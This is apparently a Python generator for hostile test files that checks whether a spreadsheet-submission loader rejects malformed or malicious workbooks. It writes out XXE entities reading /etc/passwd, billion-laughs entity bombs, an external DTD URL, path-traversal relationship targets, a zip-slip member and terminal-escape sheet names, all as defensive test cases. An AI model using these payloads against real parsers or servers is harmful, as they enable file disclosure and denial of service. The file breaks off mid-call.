"""A corpus of hostile or damaged submission files, generated from code into a folder of your choice.

    .venv/bin/python tests/hostile/generate.py OUT_DIR [--only NAME ...] [--list]

or, from Python (tests):

    from tests.hostile.generate import CASES, generate, build
    paths = generate(tmp_path)                 # every case; returns {case name: path}
    path = build(case, tmp_path)               # one case

`CASES` lists one `Case` per file: what it attacks, where a good rejection message should point (sheet and
cell, CSV line, or "cả tệp" = the whole file), whether the loader should reject it or accept it (possibly
with warnings), and the value that must be current afterwards when one is known. Nothing is stored as a
binary: every file comes from the template writer (etl.template.write_template) plus edits of the XML, a raw
ZIP writer and a hand-made DEFLATE encoder (zipcraft.py), so the same code gives the same bytes each run.
The sizes stay small on disk: the 1.5 GB files are sparse (os.truncate), the 800 MB sheets are ~1 MB DEFLATE
bombs, and "huge" ZIP members only declare their size.

The unit and round are LDLD63_38 / N2021 (year 2021, column F); the values are the demo's (etl.demo.simulate,
seed 6), so the valid base file passes every rule against the demo warehouse.
"""
from __future__ import annotations

import argparse
import csv
import io
import os
import re
import sys
import tempfile
import time
import zipfile
from dataclasses import dataclass, field, replace
from functools import lru_cache
from pathlib import Path
from typing import Callable
from xml.sax.saxutils import escape

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))
HERE = Path(__file__).resolve().parent
if str(HERE) not in sys.path:
    sys.path.insert(0, str(HERE))

from zipcraft import BombStream, Member, build_zip  # noqa: E402

UNIT, ROUND, YEAR = "LDLD63_38", "N2021", 2021
UNIT_NAME = "Liên đoàn Lao động tỉnh Thanh Hóa"
FIXED_TIME = "2022-01-15T08:00:00"
HUGE = 1_610_612_736  # 1.5 GiB, for sparse files
MAX_CSV = 20 * 1_000_000  # settings.toml [loader] max_file_mb, in bytes (MB of 1.000.000 bytes, as the upload widget counts)
PASSWD_CANARY = "root:x:0:0"
WHOLE_FILE = "cả tệp"

REJECT, ACCEPT = "reject", "accept"


@dataclass(frozen=True)
class Case:
    """One hostile file and what a good loader does with it."""

    name: str
    file_name: str
    group: str          # structure | values | resources | conflicts
    attack: str         # what it attacks
    place: str          # where a good message points: "sheet!cell", "CSV dòng N", "cả tệp", or "" (nothing to say)
    expected: str       # "reject" | "accept" (accept may carry warnings)
    note: str
    sheet: str = ""     # machine-readable place: sheet name …
    cell: str = ""      # … and A1 cell (CSV: the cell as the loader names it today, column + line)
    line: int | None = None   # CSV line the message should name
    check: tuple | None = None  # (indicator, sector, year, value) current after an accept
    canary: str = ""    # text that must never reach the output or the warehouse
    sparse: bool = False
    build: Callable[[Path], None] | None = field(default=None, repr=False, compare=False)


CASES: list[Case] = []


def _add(name, file_name, group, attack, place, expected, note, build, **kw) -> None:
    assert expected in (REJECT, ACCEPT)
    CASES.append(Case(name, file_name, group, attack, place, expected, note, build=build, **kw))


# --------------------------------------------------------------------------------------------------
# The valid base workbook, its parts, and edits of its XML
# --------------------------------------------------------------------------------------------------

@lru_cache(maxsize=1)
def _ref():
    from core.refdata import reference
    return reference()


@lru_cache(maxsize=1)
def _base_data():
    """The demo's values, ratings and texts for LDLD63_38 in 2021 (same seed as `etl demo`)."""
    from etl.demo import simulate
    v, r, t = simulate(_ref(), seed=6)
    v = v[(v.unit_code == UNIT) & (v.year == YEAR)]
    r = r[(r.unit_code == UNIT) & (r.year == YEAR)]
    t = t[(t.unit_code == UNIT) & (t.round_code == ROUND)]
    values = {(x.indicator_code, x.sector, int(x.year)): float(x.value) for x in v.itertuples()}
    ratings = {(int(x.year), x.level_code): x.cdcs_count for x in r.itertuples()}
    texts = dict(zip(t.question_code, t.text))
    return values, ratings, texts


def base_value(code: str, sector: str = "TOTAL") -> float:
    return _base_data()[0][(code, sector, YEAR)]


def _normalise(parts: dict[str, bytes]) -> dict[str, bytes]:
    """Replace the writer's clock readings so that the same code gives the same bytes."""
    stamp = rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d"
    parts["xl/sharedStrings.xml"] = re.sub(stamp, FIXED_TIME.encode(), parts["xl/sharedStrings.xml"])
    parts["docProps/core.xml"] = re.sub(stamp + rb"Z", FIXED_TIME.encode() + b"Z", parts["docProps/core.xml"])
    return parts


@lru_cache(maxsize=4)
def _template_parts(round_code: str = ROUND) -> tuple[tuple[str, bytes], ...]:
    from etl.template import write_template
    values, ratings, texts = _base_data()
    if round_code != ROUND:
        values, ratings, texts = {}, {}, {}
    with tempfile.TemporaryDirectory() as tmp:
        out = write_template(Path(tmp) / "base.xlsx", UNIT, round_code, values=values, ratings=ratings, texts=texts)
        with zipfile.ZipFile(out) as z:
            parts = {i.filename: z.read(i.filename) for i in z.infolist()}
    return tuple(_normalise(parts).items())


class Book:
    """The base workbook as editable parts; `zip()` packs it with the raw writer."""

    def __init__(self, round_code: str = ROUND):
        self.parts: dict[str, bytes] = dict(_template_parts(round_code))

    # -- parts
    def text(self, part: str) -> str:
        return self.parts[part].decode("utf-8")

    def put(self, part: str, xml: str | bytes) -> None:
        self.parts[part] = xml.encode("utf-8") if isinstance(xml, str) else xml

    def sheet_part(self, sheet: str) -> str:
        wb, rels = self.text("xl/workbook.xml"), self.text("xl/_rels/workbook.xml.rels")
        rid = re.search(rf'<sheet name="{re.escape(escape(sheet))}" sheetId="\d+" (?:state="\w+" )?r:id="(rId\d+)"', wb).group(1)
        target = re.search(rf'Id="{rid}" Type="[^"]+" Target="([^"]+)"', rels).group(1)
        return "xl/" + target

    def sheet_xml(self, sheet: str) -> str:
        return self.text(self.sheet_part(sheet))

    def put_sheet(self, sheet: str, xml: str | bytes) -> None:
        self.put(self.sheet_part(sheet), xml)

    # -- cells
    def set_cell(self, sheet: str, ref: str, cell_xml: str) -> None:
        """Replace the existing cell `ref` of a sheet by `cell_xml` (a whole <c …>…</c> element)."""
        xml = self.sheet_xml(sheet)
        new, n = re.subn(rf'<c r="{ref}"(?: [^>]*?)?(?:/>|>.*?</c>)', lambda _: cell_xml, xml, count=1, flags=re.S)
        if n != 1:
            raise KeyError(f"{sheet}!{ref}")
        self.put_sheet(sheet, new)

    def style_of(self, sheet: str, ref: str) -> str:
        m = re.search(rf'<c r="{ref}"[^>]*? s="(\d+)"', self.sheet_xml(sheet))
        return f' s="{m.group(1)}"' if m else ""

    def set_number(self, sheet: str, ref: str, v: str) -> None:
        self.set_cell(sheet, ref, f'<c r="{ref}"{self.style_of(sheet, ref)}><v>{v}</v></c>')

    def set_text(self, sheet: str, ref: str, text: str, *, excel_escape: bool = True) -> None:
        body = _excel_escape(text) if excel_escape else escape(text)
        self.set_cell(sheet, ref, f'<c r="{ref}"{self.style_of(sheet, ref)} t="inlineStr"><is><t xml:space="preserve">{body}</t></is></c>')

    def append_rows(self, sheet: str, rows_xml: str, dimension: str | None = None) -> None:
        xml = self.sheet_xml(sheet).replace("</sheetData>", rows_xml + "</sheetData>", 1)
        if dimension:
            xml = re.sub(r'<dimension ref="[^"]+"/>', f'<dimension ref="{dimension}"/>', xml, count=1)
        self.put_sheet(sheet, xml)

    def add_style(self, xf: str) -> int:
        styles = self.text("xl/styles.xml")
        m = re.search(r'<cellXfs count="(\d+)">', styles)
        n = int(m.group(1))
        styles = styles.replace(m.group(0), f'<cellXfs count="{n + 1}">', 1).replace("</cellXfs>", xf + "</cellXfs>", 1)
        self.put("xl/styles.xml", styles)
        return n

    # -- packing
    def members(self, **overrides) -> list[Member]:
        return [overrides.get(name) or Member(name, data) for name, data in self.parts.items()]

    def zip(self, **kw) -> bytes:
        return build_zip(self.members(), **kw)

    def write(self, path: Path) -> None:
        path.write_bytes(self.zip())


def _excel_escape(text: str) -> str:
    """XML text as Excel writes it: control characters as _xHHHH_, markup characters as entities."""
    out = []
    for ch in text:
        o = ord(ch)
        if (o < 0x20 and ch not in "\t\n\r") or o in (0xFFFE, 0xFFFF):
            out.append(f"_x{o:04X}_")
        else:
            out.append(ch)
    return escape("".join(out))


def sheet_name(code: str) -> str:
    return _ref().sheet_meta[code]["sheet_name"]


def where(code: str, sector: str = "TOTAL") -> tuple[str, str]:
    """(sheet name, A1 cell) of the 2021 value of an indicator row in the N2021 template."""
    from etl.template import FIRST_DATA_ROW, sheet_rows
    ref = _ref()
    section = ref.indicator_meta[code]["section"]
    for i, (c, s, *_rest) in enumerate(sheet_rows(ref, section)):
        if c == code and s == sector:
            return sheet_name(section), f"F{FIRST_DATA_ROW + i + 1}"
    raise KeyError(code)


def text_cell(question: str) -> tuple[str, str]:
    q = _ref().text_questions.sort_values("order", key=lambda s: s.astype(int))
    return sheet_name("TEXT"), f"E{5 + list(q.index).index(question)}"


TEXT_SHEET = "Ý kiến, kiến nghị"
# Cells no cross-field rule reads, so a change there is judged on its own.
QUIET_INT = "training_courses"        # I.1.4, lớp
QUIET_INT2 = "training_attendance"    # I.1.4, lượt người
QUIET_MONEY = "training_budget"       # I.1.4, triệu đồng, decimal
QUIET_HEAD = "cadre_under35"          # I.1.1, người
QUIET_OTHERS = ["chair_concurrent", "cadre_allowance", "union_groups", "dept_unions"]


def _place(sheet: str, cell: str) -> str:
    return f"{sheet}!{cell}" if cell else sheet


def _csv_place(line: int) -> str:
    return f"CSV dòng {line}"


# --------------------------------------------------------------------------------------------------
# Controls: the unharmed base files, which must load (they show the harness and the warehouse work)
# --------------------------------------------------------------------------------------------------

_add("control_valid_xlsx", "control_valid.xlsx", "control",
     "nothing: the base workbook every .xlsx case is edited from", "", ACCEPT,
     "Tệp gốc hợp lệ (số liệu mô phỏng của demo); phải được nhận.", lambda p: Book().write(p))
_add("control_valid_csv", "control_valid.csv", "control",
     "nothing: a one-value CSV by unit code", "", ACCEPT, "CSV hợp lệ; phải được nhận.",
     lambda p: p.write_bytes(f"unit_code,year,sector,indicator_code,value\r\n{UNIT},{YEAR},,training_courses,121\r\n".encode()),
     check=("training_courses", "TOTAL", YEAR, 121.0))


# --------------------------------------------------------------------------------------------------
# XLSX structure
# --------------------------------------------------------------------------------------------------

S12 = "I.1.2 Đoàn viên"
S14 = "I.1.4 Tập huấn"
MEMBER_END_CHECK = ("member_end", "TOTAL", YEAR)


def _check_member_end():
    return (*MEMBER_END_CHECK, base_value("member_end"))


def b_truncated_sheet(path: Path) -> None:
    bk = Book()
    xml = bk.parts[bk.sheet_part(S12)]
    bk.put_sheet(S12, xml[: len(xml) // 2])
    bk.write(path)


_add("xml_sheet_cut_in_half", "sheet_cut_in_half.xlsx", "structure",
     "sheet XML ends in the middle of an element (valid ZIP, CRC fine)", S12, REJECT,
     "Trang I.1.2 bị cắt đôi: XML không khép; phải từ chối cả tệp, không nạp nửa trang.", b_truncated_sheet, sheet=S12)


def _with_doctype(xml: str, doctype: str) -> str:
    return xml.replace("?>", "?>" + doctype, 1)


def b_billion_laughs(path: Path) -> None:
    bk = Book()
    ents = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol;" if i == 1 else f"&lol{i - 1};") * 10}">' for i in range(1, 10))
    sheet, cell = where(QUIET_INT)
    bk.set_cell(sheet, cell, f'<c r="{cell}" t="inlineStr"><is><t>&lol9;</t></is></c>')
    bk.put_sheet(sheet, _with_doctype(bk.sheet_xml(sheet), f"<!DOCTYPE worksheet [{ents}]>"))
    bk.write(path)


_add("xml_billion_laughs", "billion_laughs.xlsx", "structure",
     "DOCTYPE with nested internal ENTITY declarations; &lol9; expands to 3 GB", S14, REJECT,
     "DTD không bao giờ có trong tệp Excel thật; phải từ chối trước khi mở rộng thực thể.", b_billion_laughs, sheet=S14)


def b_xxe_text(path: Path) -> None:
    bk = Book()
    sheet, cell = text_cell("II.5")
    bk.set_cell(sheet, cell, f'<c r="{cell}" t="inlineStr"><is><t>&xxe;</t></is></c>')
    bk.put_sheet(sheet, _with_doctype(bk.sheet_xml(sheet), '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'))
    bk.write(path)


_add("xml_xxe_passwd_text_answer", "xxe_passwd.xlsx", "structure",
     "external SYSTEM entity file:///etc/passwd used as a text answer (II.5)", TEXT_SHEET, REJECT,
     "Nội dung /etc/passwd không được xuất hiện trong kết quả hay kho dữ liệu.", b_xxe_text, sheet=TEXT_SHEET,
     canary=PASSWD_CANARY)


def b_xxe_sst(path: Path) -> None:
    bk = Book()
    sst = bk.text("xl/sharedStrings.xml")
    sst = _with_doctype(sst, '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
    sst = sst.replace("<si><t>", "<si><t>&xxe;", 1)  # the first string; _meta and headers use others
    bk.put("xl/sharedStrings.xml", sst)
    bk.write(path)


_add("xml_xxe_passwd_shared_strings", "xxe_shared_strings.xlsx", "structure",
     "external SYSTEM entity in xl/sharedStrings.xml", WHOLE_FILE, REJECT,
     "Thực thể ngoài trong bảng chuỗi dùng chung.", b_xxe_sst, canary=PASSWD_CANARY)


def b_external_dtd(path: Path) -> None:
    bk = Book()
    bk.put_sheet(S12, _with_doctype(bk.sheet_xml(S12), '<!DOCTYPE worksheet SYSTEM "http://example.invalid/evil.dtd">'))
    bk.write(path)


_add("xml_external_dtd_url", "external_dtd.xlsx", "structure",
     "DOCTYPE naming an external DTD by URL (network fetch)", S12, REJECT,
     "Không được tải DTD từ mạng.", b_external_dtd, sheet=S12)


def b_sst_out_of_range(path: Path) -> None:
    bk = Book()
    sheet, cell = where(QUIET_INT)
    bk.set_cell(sheet, cell, f'<c r="{cell}"{bk.style_of(sheet, cell)} t="s"><v>99999</v></c>')
    bk.write(path)


_s, _c = where(QUIET_INT)
_add("sst_index_out_of_range", "sst_index_out_of_range.xlsx", "structure",
     "cell t=\"s\" pointing at shared string 99999 (table has ~250)", _place(_s, _c), REJECT,
     "Chỉ số chuỗi dùng chung ngoài bảng: phải chỉ đúng ô.", b_sst_out_of_range, sheet=_s, cell=_c)


def b_corrupt_deflate(path: Path) -> None:
    bk = Book()
    part = bk.sheet_part(S12)
    data = bk.parts[part]
    from zipcraft import deflate
    raw = bytearray(deflate(data))
    mid = len(raw) // 2
    raw[mid:mid + 24] = bytes((0xA5 ^ i) & 0xFF for i in range(24))
    path.write_bytes(build_zip(bk.members(**{part: Member(part, data, raw=bytes(raw))})))


_add("zip_corrupt_deflate", "corrupt_deflate.xlsx", "structure",
     "the I.1.2 member's DEFLATE data damaged in the middle (headers and CRC intact)", WHOLE_FILE, REJECT,
     "Dữ liệu nén hỏng.", b_corrupt_deflate)


def b_method99(path: Path) -> None:
    bk = Book()
    part = bk.sheet_part(S12)
    path.write_bytes(build_zip(bk.members(**{part: Member(part, bk.parts[part], method=99)})))


_add("zip_unknown_method_99", "compression_method_99.xlsx", "structure",
     "member with compression method id 99 (AES marker / unknown)", WHOLE_FILE, REJECT,
     "Phương thức nén không hỗ trợ.", b_method99)


def b_encrypted_flag(path: Path) -> None:
    bk = Book()
    part = bk.sheet_part(S12)
    path.write_bytes(build_zip(bk.members(**{part: Member(part, bk.parts[part], flags=0x1)})))


_add("zip_encryption_flag", "encryption_flag.xlsx", "structure",
     "member with general-purpose flag bit 0 (encrypted) set, data actually plain", WHOLE_FILE, REJECT,
     "Cờ mã hóa ZIP bật.", b_encrypted_flag)


def b_no_central(path: Path) -> None:
    path.write_bytes(Book().zip(central_directory=False))


_add("zip_no_central_directory", "no_central_directory.xlsx", "structure",
     "local headers and data only: no central directory, no end record", WHOLE_FILE, REJECT,
     "Tệp ZIP thiếu thư mục trung tâm (tải về bị ngắt).", b_no_central)


def b_cut_central(path: Path) -> None:
    data = Book().zip()
    cd = data.rfind(b"PK\x05\x06")
    start = data.find(b"PK\x01\x02")
    path.write_bytes(data[: start + (cd - start) // 2])


_add("zip_central_directory_truncated", "central_directory_truncated.xlsx", "structure",
     "file cut in the middle of the central directory", WHOLE_FILE, REJECT,
     "Tệp bị cắt cụt.", b_cut_central)


def _retarget(target: str) -> Callable[[Path], None]:
    def b(path: Path) -> None:
        bk = Book()
        part = bk.sheet_part(S12)
        rels = bk.text("xl/_rels/workbook.xml.rels")
        rels = rels.replace(f'Target="{part[3:]}"', f'Target="{target}"', 1)
        bk.put("xl/_rels/workbook.xml.rels", rels)
        bk.write(path)
    return b


_add("rels_target_dotdot_passwd", "rels_dotdot_passwd.xlsx", "structure",
     "workbook.xml.rels target of sheet I.1.2 = ../../etc/passwd", S12, REJECT,
     "Đích quan hệ ra ngoài gói; không bao giờ đọc tệp hệ thống.", _retarget("../../etc/passwd"), sheet=S12,
     canary=PASSWD_CANARY)
_add("rels_target_absolute_passwd", "rels_absolute_passwd.xlsx", "structure",
     "workbook.xml.rels target of sheet I.1.2 = /etc/passwd (absolute)", S12, REJECT,
     "Đường dẫn tuyệt đối trong gói chỉ tới phần /etc/passwd không có trong gói.", _retarget("/etc/passwd"), sheet=S12,
     canary=PASSWD_CANARY)
_add("rels_target_file_url", "rels_file_url.xlsx", "structure",
     "workbook.xml.rels target of sheet I.1.2 = file:///etc/passwd (TargetMode absent)", S12, REJECT,
     "URL tệp trong quan hệ nội bộ.", _retarget("file:///etc/passwd"), sheet=S12, canary=PASSWD_CANARY)


def b_duplicate_names(path: Path) -> None:
    bk = Book()
    wb = bk.text("xl/workbook.xml")
    wb = wb.replace('name="I.1.3 Thẻ đoàn viên"', f'name="{S12}"', 1)
    bk.put("xl/workbook.xml", wb)
    bk.write(path)


_add("duplicate_sheet_names", "duplicate_sheet_names.xlsx", "structure",
     "two <sheet> entries named 'I.1.2 Đoàn viên' (the second is really I.1.3)", S12, REJECT,
     "Excel không cho hai trang trùng tên; trang I.1.3 bị che khuất.", b_duplicate_names, sheet=S12)


def b_member_absent(path: Path) -> None:
    bk = Book()
    del bk.parts[bk.sheet_part(S12)]
    bk.write(path)


_add("sheet_member_absent", "sheet_member_absent.xlsx", "structure",
     "workbook and rels declare sheet I.1.2 but its XML member is not in the ZIP", S12, REJECT,
     "Trang khai báo nhưng thiếu phần XML.", b_member_absent, sheet=S12)


def b_duplicate_member(path: Path) -> None:
    bk = Book()
    part = bk.sheet_part(S12)
    xml = bk.parts[part]
    sheet, cell = where("member_end")
    bk2 = Book()
    bk2.set_number(sheet, cell, str(int(base_value("member_end")) + 1))
    members = bk.members()
    i = next(k for k, m in enumerate(members) if m.name == part)
    members.insert(i + 1, Member(part, bk2.parts[part]))
    assert members[i].data == xml
    path.write_bytes(build_zip(members))


_add("zip_duplicate_member_name", "duplicate_member.xlsx", "structure",
     "two ZIP entries named xl/worksheets/sheet3.xml with different member_end", WHOLE_FILE, REJECT,
     "Hai phần cùng tên: trình đọc khác nhau sẽ chọn bản khác nhau.", b_duplicate_member)


def b_zip_slip(path: Path) -> None:
    bk = Book()
    members = bk.members() + [Member("../../../../tmp/hostile_zip_slip.txt", b"zip slip\n")]
    path.write_bytes(build_zip(members))


_add("zip_member_path_traversal", "zip_slip.xlsx", "structure",
     "extra ZIP member named ../../../../tmp/hostile_zip_slip.txt", WHOLE_FILE, REJECT,
     "Tên phần không hợp lệ theo OPC; tuyệt đối không giải nén ra đĩa.", b_zip_slip)


def b_declared_huge(zip64: bool) -> Callable[[Path], None]:
    def b(path: Path) -> None:
        bk = Book()
        part = bk.sheet_part(S12)
        m = Member(part, bk.parts[part], zip64_size=1 << 40) if zip64 else Member(part, bk.parts[part], size=0xFFFFFFFE)
        path.write_bytes(build_zip(bk.members(**{part: m})))
    return b


_add("zip_declared_size_4gb", "declared_4gb_member.xlsx", "resources",
     "sheet I.1.2 member declares 4,294,967,294 bytes uncompressed (really ~15 KB)", WHOLE_FILE, REJECT,
     "Kích thước khai báo sai; không cấp phát theo số khai báo.", b_declared_huge(False))
_add("zip64_declared_size_1tb", "declared_1tb_member.xlsx", "resources",
     "sheet I.1.2 member declares 1 TiB through a Zip64 extra field", WHOLE_FILE, REJECT,
     "Kích thước Zip64 khai báo 1 TB.", b_declared_huge(True))


def b_utf16(path: Path) -> None:
    bk = Book()
    xml = bk.sheet_xml(S12).replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    bk.put_sheet(S12, xml.encode("utf-16"))
    bk.write(path)


_add("sheet_xml_utf16", "sheet_utf16.xlsx", "structure",
     "sheet I.1.2 XML encoded as UTF-16 with BOM and encoding=\"UTF-16\" (allowed by OPC)", "", ACCEPT,
     "OPC cho phép UTF-16: đọc đúng giá trị; nếu không hỗ trợ thì từ chối rõ ràng, không được đọc sai.", b_utf16,
     check=None)  # check filled below (needs base values)


def b_ns_prefix(path: Path) -> None:
    bk = Book()
    xml = bk.sheet_xml(S12)
    head, body = xml.split("?>", 1)
    body = body.replace('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"',
                        '<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"', 1)
    body = re.sub(r"<(/?)(?!x:)([A-Za-z][A-Za-z0-9]*)(?=[ />])", r"<\1x:\2", body)
    bk.put_sheet(S12, head + "?>" + body)
    bk.write(path)


_add("xml_namespace_prefix", "namespace_prefix.xlsx", "structure",
     "every element of sheet I.1.2 written with a prefix (<x:row><x:c><x:v>), same namespace", "", ACCEPT,
     "XML hợp lệ: phải đọc đúng như tệp gốc.", b_ns_prefix)


def _reorder_attrs(xml: str) -> str:
    def flip(m):
        attrs = re.findall(r'\s+([\w:]+="[^"]*")', m.group(1))
        return "<c " + " ".join(reversed(attrs)) + m.group(2)
    return re.sub(r"<c((?:\s+[\w:]+=\"[^\"]*\")+)\s*(/?>)", flip, xml)


def b_attr_order(path: Path) -> None:
    bk = Book()
    bk.put_sheet(S12, _reorder_attrs(bk.sheet_xml(S12)))
    bk.write(path)


_add("xml_attribute_order", "attribute_order.xlsx", "structure",
     "every <c> of sheet I.1.2 with attributes reversed (<c s=\"7\" r=\"F15\">, <c t=\"s\" r=\"A5\">)", "", ACCEPT,
     "XML hợp lệ: thứ tự thuộc tính không có nghĩa.", b_attr_order)


def b_attr_order_error(path: Path) -> None:
    bk = Book()
    sheet, cell = where(QUIET_HEAD)
    bk.set_cell(sheet, cell, f'<c t="e" r="{cell}"><v>#DIV/0!</v></c>')
    bk.write(path)


_s, _c = where(QUIET_HEAD)
_add("xml_attribute_order_error_cell", "attribute_order_error_cell.xlsx", "structure",
     "<c t=\"e\" r=\"…\"><v>#DIV/0!</v></c>: an error cell whose r comes after t", _place(_s, _c), REJECT,
     "Ô lỗi #DIV/0! phải bị báo đúng ô, dù thứ tự thuộc tính khác.", b_attr_order_error, sheet=_s, cell=_c)


def b_single_quotes(path: Path) -> None:
    bk = Book()
    for sheet in (S12, "_meta"):
        xml = bk.sheet_xml(sheet)
        head, body = xml.split("?>", 1)
        bk.put_sheet(sheet, head + "?>" + re.sub(r'="([^"]*)"', r"='\1'", body))
    bk.write(path)


_add("xml_single_quoted_attributes", "single_quoted_attributes.xlsx", "structure",
     "all attributes of sheet I.1.2 and _meta in single quotes (r='F15')", "", ACCEPT,
     "XML hợp lệ: phải đọc đúng.", b_single_quotes)


def _rename_sheet(new: bytes) -> Callable[[Path], None]:
    def b(path: Path) -> None:
        bk = Book()
        wb = bk.parts["xl/workbook.xml"]
        bk.put("xl/workbook.xml", wb.replace(f'name="{S14}"'.encode(), b'name="' + new + b'"', 1))
        bk.write(path)
    return b


_add("sheet_name_rtl_override", "sheet_name_rtl.xlsx", "values",
     "sheet I.1.4 renamed 'I.1.4 \\u202eTập huấn\\u202c' (RTL override, legal XML)", "I.1.4", ACCEPT,
     "Trang tìm theo mã ẩn (cảnh báo đổi tên); thông báo không được in ký tự điều khiển hướng chữ.",
     _rename_sheet("I.1.4 \u202eTập huấn\u202c".encode()), sheet="I.1.4")
_add("sheet_name_ansi_nul", "sheet_name_ansi_nul.xlsx", "values",
     "sheet I.1.4 named with raw ESC[31m, BEL and NUL bytes in workbook.xml (ill-formed XML 1.0)", "I.1.4", REJECT,
     "Ký tự điều khiển thô không hợp lệ trong XML 1.0; không in lại ra terminal.",
     _rename_sheet(b"I.1.4\x1b[31m\x07\x00 T\xe1\xba\xadp hu\xe1\xba\xa5n"), sheet="I.1.4")


def b_sheet_name_ansi_escaped(path: Path) -> None:
    bk = Book()
    wb = bk.text("xl/workbook.xml")
    bk.put("xl/workbook.xml", wb.replace(f'name="{S14}"', 'name="I.1.4 &#x1B;[2J&#x1B;[H Tập huấn"', 1))
    bk.write(path)


_add("sheet_name_ansi_charref", "sheet_name_ansi_charref.xlsx", "values",
     "sheet I.1.4 named 'I.1.4 &#x1B;[2J&#x1B;[H …' (clear-screen escape as character references; illegal in XML 1.0)",
     "I.1.4", REJECT, "Tham chiếu ký tự &#x1B; bị cấm trong XML 1.0.", b_sheet_name_ansi_escaped, sheet="I.1.4")


# --------------------------------------------------------------------------------------------------
# Values
# --------------------------------------------------------------------------------------------------

def b_formula_no_cache(path: Path) -> None:
    bk = Book()
    sheet, cell = where(QUIET_INT)
    bk.set_cell(sheet, cell, f'<c s="7" r="{cell}"><f>F6/10</f></c>')
    bk.write(path)


_s, _c = where(QUIET_INT)
_add("formula_no_cache_attr_order", "formula_no_cache_attr_order.xlsx", "values",
     "<c s=\"7\" r=\"F5\"><f>F6/10</f></c>: formula without cached value, r not the first attribute",
     _place(_s, _c), REJECT, "Công thức chưa có giá trị tính sẵn: từ chối, chỉ đúng ô (không coi là ô trống).",
     b_formula_no_cache, sheet=_s, cell=_c)


def b_formula_cached_attr_order(path: Path) -> None:
    bk = Book()
    sheet, cell = where(QUIET_INT)
    bk.set_cell(sheet, cell, f'<c t="n" s="7" r="{cell}"><f>F6/10</f><v>{int(base_value(QUIET_INT))}</v></c>')
    bk.write(path)


_add("formula_cached_attr_order", "formula_cached_attr_order.xlsx", "values",
     "formula with cached value, attributes reversed", _place(_s, _c), ACCEPT,
     "Dùng giá trị tính sẵn, cảnh báo công thức tại đúng ô.", b_formula_cached_attr_order, sheet=_s, cell=_c,
     check=None)

for _i, _err in enumerate(["#DIV/0!", "#N/A", "#VALUE!", "#REF!"]):
    _code = [QUIET_HEAD, *QUIET_OTHERS][_i]
    _s, _c = where(_code)

    def _b(path: Path, _err=_err, _code=_code) -> None:
        bk = Book()
        sheet, cell = where(_code)
        bk.set_cell(sheet, cell, f'<c r="{cell}"{bk.style_of(sheet, cell)} t="e"><v>{escape(_err)}</v></c>')
        bk.write(path)

    _slug = _err.strip("#!").replace("/", "").lower()
    _add(f"excel_error_{_slug}", f"excel_error_{_slug}.xlsx", "values",
         f"data cell {_code} holds the Excel error {_err} (t=\"e\")", _place(_s, _c), REJECT,
         f"Lỗi {_err} không phải là 'không có số liệu': phải báo tại ô.", _b, sheet=_s, cell=_c)

_s, _c = where(QUIET_INT2)
for _raw, _exp, _note in [
    ("inf", REJECT, "Vô cực không phải số liệu."),
    ("Infinity", REJECT, "Vô cực không phải số liệu."),
    ("NaN", REJECT, "NaN không được coi là ô trống."),
    ("1e308", REJECT, "Vượt giới hạn (tối đa 5.000.000 lượt người)."),
    ("1e309", REJECT, "Tràn thành vô cực khi đọc thành số thực."),
    ("-0", ACCEPT, "-0 bằng 0: nhận, lưu 0 (không phải -0)."),
]:
    def _b(path: Path, _raw=_raw) -> None:
        bk = Book()
        bk.set_number(*where(QUIET_INT2), _raw)
        bk.write(path)

    _slug = _raw.lower().replace("-", "minus")
    _add(f"number_cell_{_slug}", f"number_cell_{_slug}.xlsx", "values",
         f"numeric data cell <v>{_raw}</v> in {QUIET_INT2}", _place(_s, _c), _exp, _note, _b, sheet=_s, cell=_c,
         check=(QUIET_INT2, "TOTAL", YEAR, 0.0) if _raw == "-0" else None)

for _raw in ["inf", "NaN", "Infinity"]:
    def _b(path: Path, _raw=_raw) -> None:
        bk = Book()
        bk.set_text(*where(QUIET_INT2), _raw)
        bk.write(path)

    _add(f"text_cell_{_raw.lower()}", f"text_cell_{_raw.lower()}.xlsx", "values",
         f"data cell {QUIET_INT2} holds the text '{_raw}'", _place(_s, _c), REJECT, "Chữ, không phải số.",
         _b, sheet=_s, cell=_c)

_s14_f1 = (S14, "F1")
for _raw, _note in [
    ("inf", "int(float('inf')) ném OverflowError."),
    ("Infinity", "Như inf."),
    ("NaN", "Không phải năm."),
    ("1e308", "Năm có 309 chữ số."),
    ("-0", "Năm 0."),
    ("0", "Năm 0."),
    ("10000", "Năm 10000 (date() không biểu diễn được)."),
    ("2021.5", "Không phải năm nguyên; hôm nay bị cắt thành 2021 và nhận."),
]:
    def _b(path: Path, _raw=_raw) -> None:
        bk = Book()
        bk.set_number(S14, "F1", _raw)
        bk.write(path)

    _slug = _raw.lower().replace("-", "minus").replace(".", "_")
    _add(f"year_header_{_slug}", f"year_header_{_slug}.xlsx", "values",
         f"hidden year header F1 of sheet I.1.4 = <v>{_raw}</v>", _place(*_s14_f1), REJECT, _note, _b,
         sheet=S14, cell="F1")


def b_boolean(path: Path) -> None:
    bk = Book()
    sheet, cell = where(QUIET_INT)
    bk.set_cell(sheet, cell, f'<c r="{cell}"{bk.style_of(sheet, cell)} t="b"><v>1</v></c>')
    bk.write(path)


_s, _c = where(QUIET_INT)
_add("boolean_cell", "boolean_cell.xlsx", "values", "data cell training_courses = TRUE (t=\"b\")",
     _place(_s, _c), REJECT, "TRUE không phải số lớp (không được thành 1).", b_boolean, sheet=_s, cell=_c)


def b_date_serial(path: Path) -> None:
    bk = Book()
    idx = bk.add_style('<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>')
    sheet, cell = where(QUIET_INT)
    bk.set_cell(sheet, cell, f'<c r="{cell}" s="{idx}"><v>44561</v></c>')
    bk.write(path)


def b_date_iso(path: Path) -> None:
    bk = Book()
    sheet, cell = where(QUIET_INT)
    bk.set_cell(sheet, cell, f'<c r="{cell}" t="d"><v>2021-12-31T00:00:00</v></c>')
    bk.write(path)


_add("date_cell_serial", "date_cell_serial.xlsx", "values",
